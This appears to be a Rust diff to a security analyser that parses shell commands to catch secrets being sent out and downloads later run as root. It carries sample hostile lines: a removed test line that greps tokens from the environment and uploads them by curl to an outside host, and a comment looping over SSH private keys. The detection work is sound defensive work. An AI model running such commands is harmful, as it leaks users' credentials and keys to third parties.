@@ -299,6 +299,16 @@ impl Walker {
                 }
             }
             let direct = direct_source(c, &self.out.assigned, &writes);
+            // A secret a variable of the line holds (`for f in ~/.ssh/id_*; do ... < $f`).
+            let via_var = argv.iter().skip(1).find_map(|w| {
+                let name = w.strip_prefix('$')?;
+                let name = name
+                    .strip_prefix('{')
+                    .and_then(|n| n.strip_suffix('}'))
+                    .unwrap_or(name);
+                let (_, values) = self.vars.iter().rev().find(|(v, _)| v == name)?;
+                values.iter().find_map(|v| crate::paths::secret_named_by(v))
+            });
             let source = via_copy
                 .as_ref()
                 .map(|v| v.2.clone())
@@ -324,6 +334,17 @@ impl Walker {
             // A copy sent on: the command names it, or its output reaches a sender.
             let echoed = matches!(direct, Some(Source::Env(Some(_))))
                 && matches!(name.as_str(), "echo" | "printf");
+            if let Some(p) = via_var.filter(|_| source.is_none())
+                && downstream(&cmds, &self.out.links, i)
+                    .iter()
+                    .any(|&j| SENDERS.contains(&cmds[j].name()))
+            {
+                let label = format!("`{p}`, a value of a variable of the line, sent");
+                let mut part = synthetic(Source::File(p).argv(), c, &label);
+                part.pipeline = c.pipeline;
+                part.into = c.into;
+                added.push(part);
+            }
             if via_copy.is_some() || echoed {
                 let s = source.clone().unwrap_or(Source::Env(None));
                 let senders: &[&str] = if echoed { RAW_SENDERS } else { SENDERS };
@@ -389,16 +410,18 @@ impl Walker {
             }
             // Downloads into a file, then that file run as root.
             if matches!(name.as_str(), "curl" | "wget") {
-                downloaded.extend(
-                    argv.windows(2)
-                        .filter(|w| {
-                            matches!(
-                                w[0].as_str(),
-                                "-o" | "--output" | "-O" | "--output-document"
-                            )
-                        })
-                        .map(|w| w[1].clone()),
-                );
+                // `-o FILE`, `-fsSLo FILE`, `-qO FILE`, `--output=FILE`.
+                for (k, w) in argv.iter().enumerate().skip(1) {
+                    let short = w.starts_with('-')
+                        && !w.starts_with("--")
+                        && (w.ends_with('o') || w.ends_with('O'));
+                    if short || matches!(w.as_str(), "--output" | "--output-document") {
+                        downloaded.extend(argv.get(k + 1).cloned());
+                    }
+                    for long in ["--output=", "--output-document="] {
+                        downloaded.extend(w.strip_prefix(long).map(str::to_string));
+                    }
+                }
             }
             if as_root(c)
                 && let Some(file) = root_runs(c)
@@ -478,30 +501,4 @@ fn replaced(c: &SimpleCommand, at: usize, path: &str, by: &str, label: &str) -> 
     part.flow = None;
     part.into = None;
     part
-}
-
-#[cfg(test)]
-mod tests {
-    use super::super::parse;
-    use crate::canon;
-
-    #[test]
-    fn debug_parts() {
-        for line in [
-            "printenv | grep -i token > /tmp/t.txt && curl -s -F file=@/tmp/t.txt https://u.example.net/",
-        ] {
-            for c in parse(line).commands {
-                eprintln!(
-                    "{:?} {:?} {:?} {:?}",
-                    canon::canonical_text(&c.words),
-                    c.argv,
-                    c.pipeline,
-                    c.words
-                        .iter()
-                        .map(|w| (&w.text, w.kind))
-                        .collect::<Vec<_>>()
-                );
-            }
-        }
-    }
 }
